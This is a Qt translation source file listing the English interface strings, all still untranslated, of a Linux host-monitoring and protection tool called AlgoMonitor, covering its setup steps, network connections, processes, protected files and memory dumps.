    <name>ui::BaselineStep</name>
    <message>
        <source>What is here now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>This was running before AlgoMonitor knew the computer. Is it all yours?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Take it as usual</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Look at the listeners one by one afterwards</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>could not be read</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Waiting for callers</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>nobody</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Your programs of no package</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>none</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Started by themselves at login</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 at %2, reached by: %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1: %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>and %1 more</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::BlockPanel</name>
    <message>
        <source>Blocked addresses</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 left</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Unblock</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Unblock %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>and %1 more; algomonitorctl blocks lists them all</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::BusiestPanel</name>
    <message>
        <source>Busiest now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Everything is idle.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All processes</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ConfirmDialog</name>
    <message>
        <source>and %1 more</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cancel</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ConnectionTableModel</name>
    <message>
        <source>Program</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Who holds the connection</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>With</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The other end, with its name where it was seen; of a listener, who can reach it</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Own end</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Address and port of this computer</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>State</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What the connection is doing</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>In</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Received, bytes a second</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Out</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Sent, bytes a second</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>User</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>On whose behalf</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Since</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>When it was opened; – for what was there before the helper</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ConnectionText</name>
    <message>
        <source>Connected</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Listens</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Open</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Calling</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Being called</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Closing</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Closed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Hung up</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>This computer only</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The local network</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Anybody</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>not known</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>process</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>any</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::CountdownBar</name>
    <message>
        <source>decided as configured</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The time is over: it is %1.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspended and waiting for you. Without an answer it is %1.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::CpuPanel</name>
    <message>
        <source>Processor</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Processor chart</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Total</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cores</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Processor use over time</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>average %1, peak %2 in the last %3</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Now %1, %2</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::DriftTableModel</name>
    <message>
        <source>File</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The protected file</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What about it is another</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Who</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The program that changed it last</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>When</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The last change</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Before → now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Rights, owner, size or target</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::DumpDialog</name>
    <message>
        <source>Dumps larger than %1 are not made: “Largest dump” in the settings.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>There is hardly room for it: it may be refused.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Passwords, keys and messages that the program holds are in it. Only root can read the file. The program stands still for a moment.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Also if it is there to keep secrets</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Stop the dump</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Save memory</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Save the memory of %1?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Progress of the dump</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Password managers, agents of keys, and programs that do not let themselves be saved</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>It holds now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>about %1; the file is smaller, it is compressed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>not known; its size is found out first</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kept in</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>the helper&apos;s own directory</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Free there</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1, of which %2 are left alone</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Saving…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Saving: %1 %</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cancel</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Close</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Waiting for the password…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The memory of %1</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::EverydayStep</name>
    <message>
        <source>Every day</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The helper watches whether you are logged in or not. This is about how it reaches you.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Start the shield when I log in</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Show a notification</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Warnings come together every ten seconds, danger at once. Each can be silenced for a while.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Left click opens the window, middle click the processes, right click the menu.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No panel shows icons here (GNOME needs an extension for it): AlgoMonitor lives in the background then, notifications stay until they are answered, and the launcher opens the window.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::FailuresPanel</name>
    <message>
        <source>Refused logins</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>None was raised.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::FileText</name>
    <message>
        <source>%1 bytes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>New</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Deleted</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Content</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Rights</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Link</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Changed</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 was not there before.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 is gone.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 has other contents.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Others may use %1 now, or use it otherwise.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 points elsewhere.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 was changed.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>not known</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>process</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>other attributes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>same size, other contents</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Off</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Taking stock</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Checking</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Watching</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Error</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 files</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>checked %1, in %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 cannot be read</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 file</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::FilesPage</name>
    <message>
        <source>Changed files</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading what has changed…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Everything is as it was accepted</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No protected file has changed. What changes will stand here, with who did it and what it means.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No files to show</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>You may not see the protected files</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Accept…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The chosen files are right as they are now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Accept folder…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Everything below the folder of the chosen file is right as it is</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Accept all…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Everything is right as it is now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Copy</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Copy the chosen rows as text</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 changed files</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 chosen</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Accept %1 changes?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The file is right as it is shown here. One that has changed again since is not accepted. Your password is asked for.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What it was before is no longer known then.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Accept</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Accept everything below this folder?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All changed files below it are right as they are now, also those that are not in sight. Your password is asked for.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What they were before is no longer known then.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Accept folder</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Accept everything?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All %1 changed files are right as they are now. Whoever changed one of them unseen stays unseen. Your password is asked for.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Accept all</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 changed file</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::HealthPanel</name>
    <message>
        <source>Sees %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>by a slower way: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>does not see %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The queue “%1” was full and dropped %2.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Health</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connecting to the helper…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>and %1 more</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Report of the learning period</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::IntegrityPanel</name>
    <message>
        <source>Check now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Stop the check</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Progress of the check</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Protected files</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 % done</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::IntroStep</name>
    <message>
        <source>What AlgoMonitor does</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>It watches this computer and speaks up when something dangerous happens. On a quiet day the shield in the panel is all you see.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Watches</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Stops</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>A remote shell or a cryptominer is held still and you are asked, before anything is lost. Everything else is only told.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Asks for the password</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Whatever weakens the protection needs the administrator&apos;s password: allowing, trusting, settings. Ending your own programs does not.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The helper is not running: nothing is watched yet.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Watching %1 processes and %2 connections now.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Some things cannot be seen here: the Overview says which.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Programs as they start, who speaks with whom on the network, protected files, logins, and what eats memory and processor time. Nothing of it leaves this computer unless you set that up.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::JsonView</name>
    <message>
        <source>General</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>yes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>no</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::LastAlertsPanel</name>
    <message>
        <source>Last alerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All alerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>None. Nothing dangerous has been seen.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the alerts…</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::LearningReport</name>
    <message>
        <source>Learning until %1. New so far: %2 programs, %3 listeners, %4 unusual places.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Learning is over. New were: %1, %2, %3.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 program</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 programs</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 listener</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 listeners</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 unusual place</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 unusual places</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::LearningReportDialog</name>
    <message>
        <source>Report of the learning period</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>AlgoMonitor knows this computer now</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The learning period ended: %1. This was new meanwhile, and was told to nobody:</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>It counts as usual from now on. What comes new after this is told, once.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Programs that ran from unusual places are worth a look: few honest ones live there.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Programs</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Listeners</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Unusual places</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Look at the processes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Look at the network</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Close</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::LinesPanel</name>
    <message>
        <source>%1 over time</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 %2</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Now %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Network</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Received</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Sent</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Disks</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Read</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Written</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Waiting for</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>CPU</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Memory</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>In how much of the time at least one program had to wait</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ListPage</name>
    <message>
        <source>Search</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Search: %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing found</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing of this kind is there now.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing matches “%1”.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::LiveValues</name>
    <message>
        <source>Now at most %1, %2</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::MainWindow</name>
    <message>
        <source>Overview</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Alerts</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Processes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Helper %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Network</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Files</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Sessions</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Rules</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Settings</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::MemoryPanel</name>
    <message>
        <source>Memory</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Memory over time</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>of %1 used</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Used</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cache</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Swap</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Now %1 %2, cache %3, swap %4</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ModeStep</name>
    <message>
        <source>What happens on danger</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>This can be changed at any time, in the window&apos;s upper right corner or in the menu of the shield.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Learn first what is usual here</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 (proposed)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Days of learning</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source> days</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Programs, listeners and places that are new are collected without a word; at the end there is a report. Dangerous behaviour is told from the first minute on.</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::NavigationRail</name>
    <message>
        <source>Pages</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 (Ctrl+%2)</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::NetworkPage</name>
    <message>
        <source>Connections</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Reading the connections…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No connections</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No program speaks with another computer, and none waits for callers.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>No connections to show</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>You may not see the connections</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Which connections</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>All</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Listeners</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Show process</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Show who holds it on the page of processes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Copy</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Copy the chosen rows as text</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Trust…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Let this program speak with this peer from now on</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Drop…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Cut the connection; the program may open another</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Block…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Keep the address out, both ways, for some time</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>As long as is set</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 hour</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 day</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>30 days</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 connections</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 listeners</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 reachable by anybody</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 chosen</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Drop this connection?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Drop %1 connections?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>It is cut at once and the other end is told. The program goes on running and may open another; block the address to keep it out.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What was under way on it, such as a download, ends.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Drop</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>for as long as is set</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>for %1</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Block %1?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Block %1 addresses?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing on this computer can speak with it, nor it with anything here, %1. It can be let in again at any time.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connections with it that are open now stop.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Block</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 connection</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>1 listener</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::OverviewPage</name>
    <message>
        <source>Time range</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>60 s</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>10 min</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>24 h</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Overview</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing is being watched</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>The helper does not answer.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>You may not see this</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Nothing to show</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Connecting to the helper…</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ProcessActions</name>
    <message>
        <source>Details…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Descriptors, sockets, maps and environment</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Copy</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Copy the chosen rows as text</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Suspend</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Stop it where it is; it can go on later</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Resume</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Let it run again</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Terminate…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Ask it to end, kill it if it does not</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill tree…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>End it and everything below it</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Let it run again (Space)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Stop it where it is; it can go on later (Space)</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 processes</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>What these programs have not saved is lost. This cannot be undone.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill %1 and everything below?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>%1 processes are asked to end, and killed if they do not within the grace period. New children are found and ended too.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Kill tree</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Terminate %1?</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>It is asked to end, and killed if it does not within the grace period. Processes below it go on running.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Each is asked to end, and killed if it does not within the grace period. Processes below them go on running.</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Terminate</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Save memory…</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Save what it holds in memory, to look into it later</source>
        <translation type="unfinished"></translation>
    </message>
</context>
<context>
    <name>ui::ProcessColumns</name>
    <message>
        <source>Name</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Program name as the kernel knows it</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>PID</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Process number</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>User</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>On whose behalf it runs</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>CPU</source>
        <translation type="unfinished"></translation>
    </message>
    <message>
        <source>Processor time, of the whole machine</source>
        <translation type="unfinished"></translation>
    </message>
